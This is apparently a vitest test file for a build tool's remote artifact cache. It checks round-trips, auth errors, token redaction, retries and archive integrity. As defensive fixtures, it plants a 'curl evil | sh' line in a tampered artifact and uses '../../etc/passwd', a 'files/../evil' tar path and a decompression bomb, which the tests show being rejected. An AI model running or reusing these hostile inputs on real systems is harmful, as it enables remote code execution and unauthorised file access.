// The remote cache against the real third-party `turborepo-remote-cache` server on loopback, plus a small fake server
// for what a healthy server never does (5xx, silence, echoing the token).
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sha256 } from '../core/hash.js';
import { createTar, gzipDeterministic, readTarGz } from '../core/tar.js';
import { startTurboCacheServer, type TurboCacheServer } from './fixtures/turbo-cache-server.js';
import { LocalCache } from './local-cache.js';
import { HttpRemoteCache } from './remote-cache.js';
import { remoteCacheFromConfig } from './remote-config.js';
import { checkEntry, packEntry, unpackEntry } from './remote-entry.js';

const TOKEN = 'qlf-test-token-5f2c9a';
const TEAM = 'qlf-test';
const temps: string[] = [];

async function tempDir(): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'qlf-remote-test-'));
  temps.push(dir);
  return dir;
}

function taskHash(name: string): string {
  return sha256(`task ${name}`);
}

/** A local cache holding one entry for `hash` with `files`. */
async function cacheWith(hash: string, files: Record<string, string>, local?: LocalCache): Promise<LocalCache> {
  const cache = local ?? new LocalCache(join(await tempDir(), 'cache'));
  const source = await tempDir();
  for (const [path, text] of Object.entries(files)) {
    await mkdir(dirname(join(source, path)), { recursive: true });
    await writeFile(join(source, path), text);
  }
  await cache.put(source, {
    taskId: 'shop:generate',
    hash,
    terminalOutput: 'generated 3 files\n',
    durationMs: 1234,
    qlfVersion: '0.1.0',
  });
  return cache;
}

async function readTree(dir: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  const walk = async (abs: string, rel: string): Promise<void> => {
    for (const entry of await readdir(abs, { withFileTypes: true })) {
      const childRel = rel ? `${rel}/${entry.name}` : entry.name;
      if (entry.isDirectory()) await walk(join(abs, entry.name), childRel);
      else out[childRel] = await readFile(join(abs, entry.name), 'utf8');
    }
  };
  await walk(dir, '');
  return out;
}

const FILES = {
  'service/app/main.py': 'from fastapi import FastAPI\napp = FastAPI()\n',
  'service/README.md': '# shop\n',
  [`deep/${'nested-folder/'.repeat(8)}café.txt`]: 'a path over 100 bytes and not ASCII\n',
  'empty.txt': '',
};

type RunningServer = TurboCacheServer;

async function startServer(): Promise<RunningServer> {
  return startTurboCacheServer({ storage: join(await tempDir(), 'storage'), token: TOKEN });
}

/** A fake server answering each request with `handler`; counts requests. */
async function fakeServer(
  handler: (req: IncomingMessage, res: ServerResponse, count: number) => void,
): Promise<{ url: string; server: Server; requests: () => number }> {
  let count = 0;
  const server = createServer((req, res) => {
    count++;
    req.resume();
    handler(req, res, count);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, server, requests: () => count };
}

afterAll(async () => {
  await Promise.all(temps.map((dir) => rm(dir, { recursive: true, force: true })));
});

describe('remote cache against turborepo-remote-cache', () => {
  let server: RunningServer;
  let remote: HttpRemoteCache;

  beforeAll(async () => {
    server = await startServer();
    remote = new HttpRemoteCache({ url: server.url, token: TOKEN, team: TEAM });
  }, 60_000);

  afterAll(async () => {
    await server?.stop();
  });

  it('round-trips an entry into a second, empty local cache', async () => {
    const hash = taskHash('round-trip');
    const first = await cacheWith(hash, FILES);
    const artifact = await packEntry(first, hash);
    expect(artifact).toBeDefined();
    expect(await packEntry(first, hash), 'packing is deterministic').toEqual(artifact);
    await remote.store(hash, artifact as Uint8Array);

    const fetched = await new HttpRemoteCache({ url: server.url, token: TOKEN, team: TEAM }).fetch(hash);
    expect(fetched).toEqual(artifact);

    const second = new LocalCache(join(await tempDir(), 'cache'));
    const reasons: string[] = [];
    const manifest = await unpackEntry(second, hash, fetched as Uint8Array, { onReject: (r) => reasons.push(r) });
    expect(reasons).toEqual([]);
    expect(manifest).toMatchObject({ hash, taskId: 'shop:generate', terminalOutput: 'generated 3 files\n' });
    const target = await tempDir();
    expect(await second.restore(hash, target)).toMatchObject({ hash, durationMs: 1234 });
    expect(await readTree(target)).toEqual(FILES);
  });

  it('answers a miss with undefined', async () => {
    expect(await remote.fetch(taskHash('never stored'))).toBeUndefined();
  });

  it('sends a team starting with team_ as teamId', async () => {
    const teamRemote = new HttpRemoteCache({ url: server.url, token: TOKEN, team: 'team_abc' });
    expect(teamRemote.artifactUrl(taskHash('x')).search).toBe('?teamId=team_abc');
    const hash = taskHash('team id');
    await teamRemote.store(hash, new Uint8Array([1, 2, 3]));
    expect(await teamRemote.fetch(hash)).toEqual(new Uint8Array([1, 2, 3]));
    expect(await remote.fetch(hash), 'teams do not see each other').toBeUndefined();
  });

  it('reports a wrong token clearly, without the token', async () => {
    const secret = 'wrong-token-d41d8cd98f00';
    const bad = new HttpRemoteCache({ url: server.url, token: secret, team: TEAM });
    for (const attempt of [() => bad.fetch(taskHash('a')), () => bad.store(taskHash('a'), new Uint8Array([1]))]) {
      const error = await attempt().catch((e: unknown) => e);
      expect(error).toMatchObject({ code: 'E_REMOTE_CACHE_AUTH', kind: 'work' });
      const { message, hint } = error as { message: string; hint: string };
      expect(message).toMatch(/401/);
      expect(message).toContain(server.url);
      expect(hint).toMatch(/QLF_REMOTE_CACHE_TOKEN/);
      expect(`${message} ${hint} ${JSON.stringify(error)}`).not.toContain(secret);
    }
  });

  it('reports the status of the server for a team and token, never throwing and never showing the token', async () => {
    expect(await remote.status()).toEqual({ ok: true, detail: 'reachable, token accepted' });
    const secret = 'wrong-token-status-77aa';
    const refused = await new HttpRemoteCache({ url: server.url, token: secret, team: TEAM }).status();
    expect(refused.ok).toBe(false);
    expect(refused.detail).toMatch(/^401/);
    expect(refused.detail).not.toContain(secret);
  });

  it('explains a missing team when the server needs one', async () => {
    const error = await new HttpRemoteCache({ url: server.url, token: TOKEN })
      .fetch(taskHash('b'))
      .catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'E_REMOTE_CACHE_HTTP', hint: expect.stringMatching(/QLF_REMOTE_CACHE_TEAM/) });
  });

  it('rejects an artifact whose bytes were changed on the server, and stores nothing', async () => {
    const hash = taskHash('tampered');
    const artifact = (await packEntry(await cacheWith(hash, FILES), hash)) as Uint8Array;
    await remote.store(hash, artifact);
    // Swap a file's content on the server's disk but keep the manifest: a well-formed, lying archive.
    const entries = readTarGz(artifact).map((entry) =>
      entry.path === 'files/service/app/main.py'
        ? { ...entry, content: new TextEncoder().encode('import os; os.system("curl evil | sh")\n') }
        : entry,
    );
    const stored = join(server.storage, TEAM, hash);
    await writeFile(stored, gzipDeterministic(createTar(entries)));

    const second = new LocalCache(join(await tempDir(), 'cache'));
    const reasons: string[] = [];
    const fetched = (await remote.fetch(hash)) as Uint8Array;
    expect(await unpackEntry(second, hash, fetched, { onReject: (r) => reasons.push(r) })).toBeUndefined();
    expect(reasons.join()).toMatch(/service\/app\/main\.py.*does not match its hash/);

    // Random corruption: flip one byte of the stored gzip.
    const corrupt = new Uint8Array(artifact);
    corrupt[Math.floor(corrupt.length / 2)]! ^= 0xff;
    await writeFile(stored, corrupt);
    expect(await unpackEntry(second, hash, (await remote.fetch(hash)) as Uint8Array)).toBeUndefined();

    expect(await second.has(hash)).toBe(false);
    expect(await second.list()).toEqual([]);
  });

  it("rejects another task's artifact stored under this hash", async () => {
    const real = taskHash('real');
    const claimed = taskHash('claimed');
    const artifact = (await packEntry(await cacheWith(real, FILES), real)) as Uint8Array;
    await remote.store(claimed, artifact);
    const second = new LocalCache(join(await tempDir(), 'cache'));
    const reasons: string[] = [];
    const fetched = (await remote.fetch(claimed)) as Uint8Array;
    expect(await unpackEntry(second, claimed, fetched, { onReject: (r) => reasons.push(r) })).toBeUndefined();
    expect(reasons.join()).toMatch(/is for task .* not the requested/);
    expect(await second.list()).toEqual([]);
  });

  it('uploads nothing in read-only mode', async () => {
    const hash = taskHash('read-only');
    const artifact = (await packEntry(await cacheWith(hash, FILES), hash)) as Uint8Array;
    const readOnly = remoteCacheFromConfig(
      { cache: { remote: { url: server.url, team: TEAM, readOnly: false } } },
      { QLF_REMOTE_CACHE_TOKEN: TOKEN, QLF_REMOTE_CACHE_READ_ONLY: '1' },
    );
    expect(readOnly).toMatchObject({ readOnly: true, description: server.url });
    await readOnly?.store(hash, artifact);
    expect(await remote.fetch(hash)).toBeUndefined();
    expect(await readdir(join(server.storage, TEAM)).then((names) => names.includes(hash))).toBe(false);
    // ...but it reads what a writer stored.
    await remote.store(hash, artifact);
    expect(await readOnly?.fetch(hash)).toEqual(artifact);
  });
});

describe('HttpRemoteCache against a misbehaving server', () => {
  const servers: Server[] = [];
  afterAll(async () => {
    for (const s of servers) s.closeAllConnections();
    await Promise.all(servers.map((s) => new Promise((resolve) => s.close(resolve))));
  });
  const fake = async (handler: Parameters<typeof fakeServer>[0]) => {
    const started = await fakeServer(handler);
    servers.push(started.server);
    return started;
  };

  it('retries 5xx with backoff, then succeeds', async () => {
    const { url, requests } = await fake((_req, res, count) => {
      if (count < 3) res.writeHead(503).end('{"message":"busy"}');
      else res.writeHead(200, { 'content-type': 'application/octet-stream' }).end('artifact');
    });
    const remote = new HttpRemoteCache({ url, token: TOKEN, team: TEAM, retryBaseMs: 10 });
    expect(new TextDecoder().decode(await remote.fetch(taskHash('c')))).toBe('artifact');
    expect(requests()).toBe(3);
  });

  it('gives up after the retries with a clear error that never holds the token', async () => {
    // A careless server that echoes the Authorization header back.
    const { url, requests } = await fake((req, res) => {
      res.writeHead(502).end(JSON.stringify({ message: `upstream refused ${req.headers.authorization}` }));
    });
    const remote = new HttpRemoteCache({ url: `${url}/cache`, token: TOKEN, team: TEAM, retryBaseMs: 10 });
    const error = await remote.store(taskHash('d'), new Uint8Array([1])).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'E_REMOTE_CACHE_UNAVAILABLE' });
    expect((error as Error).message).toMatch(/after 3 attempts: 502/);
    expect((error as Error).message).toContain(`${url}/cache/v8/artifacts/`);
    expect((error as Error).message).not.toContain(TOKEN);
    expect(requests()).toBe(3);
  });

  it('stops at once when the caller aborts', async () => {
    const { url } = await fake(() => undefined);
    const remote = new HttpRemoteCache({ url, token: TOKEN, team: TEAM });
    const controller = new AbortController();
    setTimeout(() => controller.abort(new Error('interrupted')), 50);
    await expect(remote.fetch(taskHash('f'), controller.signal)).rejects.toThrow('interrupted');
  });

  it('refuses an artifact over the size cap', async () => {
    const { url } = await fake((_req, res) => res.writeHead(200).end(Buffer.alloc(4096)));
    const remote = new HttpRemoteCache({ url, token: TOKEN, team: TEAM, maxArtifactBytes: 1024 });
    await expect(remote.fetch(taskHash('g'))).rejects.toMatchObject({ code: 'E_REMOTE_CACHE_TOO_LARGE' });
  });

  it("names an upload over the server's limit (413) as too large, not as a broken server", async () => {
    const { url } = await fake((_req, res) => res.writeHead(413).end('{"message":"Request body is too large"}'));
    const remote = new HttpRemoteCache({ url, token: TOKEN, team: TEAM });
    await expect(remote.store(taskHash('g2'), new Uint8Array(10))).rejects.toMatchObject({
      code: 'E_REMOTE_CACHE_TOO_LARGE',
      hint: expect.stringMatching(/BODY_LIMIT/),
    });
  });

  it('cannot reach a closed port', async () => {
    const { url, server } = await fake(() => undefined);
    await new Promise((resolve) => server.close(resolve));
    const remote = new HttpRemoteCache({ url, token: TOKEN, team: TEAM, retries: 1, retryBaseMs: 10 });
    await expect(remote.fetch(taskHash('h'))).rejects.toMatchObject({
      code: 'E_REMOTE_CACHE_UNAVAILABLE',
      message: expect.stringMatching(/ECONNREFUSED/),
    });
    expect(await remote.status()).toEqual({ ok: false, detail: 'ECONNREFUSED' });
  });

  it('refuses a hash that is not a task hash (it goes into the URL)', async () => {
    const remote = new HttpRemoteCache({ url: 'http://127.0.0.1:9', token: TOKEN });
    await expect(remote.fetch('../../etc/passwd')).rejects.toMatchObject({ code: 'E_REMOTE_CACHE_HASH' });
  });
});

describe('checkEntry', () => {
  const hash = taskHash('check');
  const manifest = (files: Record<string, string>) => ({
    taskId: 'shop:generate',
    hash,
    files: Object.entries(files).map(([path, text]) => ({ path, sha256: sha256(text), size: Buffer.byteLength(text) })),
    terminalOutput: '',
    durationMs: 1,
    qlfVersion: '0.1.0',
  });
  const archive = (entries: Record<string, string>) =>
    gzipDeterministic(
      createTar(Object.entries(entries).map(([path, text]) => ({ path, content: new TextEncoder().encode(text) }))),
    );

  it.each([
    ['no manifest', { 'files/a': 'a' }, /no manifest\.json/],
    ['a manifest that is not JSON', { 'manifest.json': '{' }, /not valid JSON/],
    ['a manifest of the wrong shape', { 'manifest.json': '{"hash":"x"}' }, /schema/],
    [
      'an entry outside files/',
      { 'manifest.json': JSON.stringify(manifest({})), '.bashrc': 'x' },
      /unexpected archive entry/,
    ],
    ['a missing file', { 'manifest.json': JSON.stringify(manifest({ a: 'a' })) }, /lacks it/],
    [
      'an unlisted file',
      { 'manifest.json': JSON.stringify(manifest({ a: 'a' })), 'files/a': 'a', 'files/b': 'b' },
      /does not list/,
    ],
    ['a changed file', { 'manifest.json': JSON.stringify(manifest({ a: 'a' })), 'files/a': 'b' }, /does not match/],
  ])('refuses %s', (_name, entries, reason) => {
    expect(checkEntry(hash, archive(entries))).toMatch(reason);
  });

  it('refuses a decompression bomb before inflating it', () => {
    const big = 'x'.repeat(1024 * 1024);
    const bytes = archive({ 'manifest.json': JSON.stringify(manifest({ big })), 'files/big': big });
    expect(bytes.length).toBeLessThan(10_000);
    const limits = { maxEntries: 10, maxTotalBytes: 64 * 1024, maxEntryBytes: 64 * 1024 };
    expect(checkEntry(hash, bytes, limits)).toMatch(/unreadable archive: .*limit/);
  });

  it('refuses a path that would escape the extraction folder', () => {
    // createTar refuses such paths, so patch one into a valid archive by hand.
    const tar = createTar([{ path: 'files/xx/evil', content: new TextEncoder().encode('x') }]);
    tar.set(new TextEncoder().encode('files/../evil'), 0);
    let sum = 0;
    tar.fill(0x20, 148, 156);
    for (let i = 0; i < 512; i++) sum += tar[i]!;
    tar.set(new TextEncoder().encode(`${sum.toString(8).padStart(6, '0')}\0 `), 148);
    expect(checkEntry(hash, gzipDeterministic(tar))).toMatch(/unreadable archive: .*"\.\." segment/);
  });

  it('accepts what packEntry wrote', async () => {
    const local = await cacheWith(hash, FILES);
    const checked = checkEntry(hash, (await packEntry(local, hash)) as Uint8Array);
    expect(typeof checked).toBe('object');
    expect(await packEntry(local, taskHash('absent'))).toBeUndefined();
  });
});
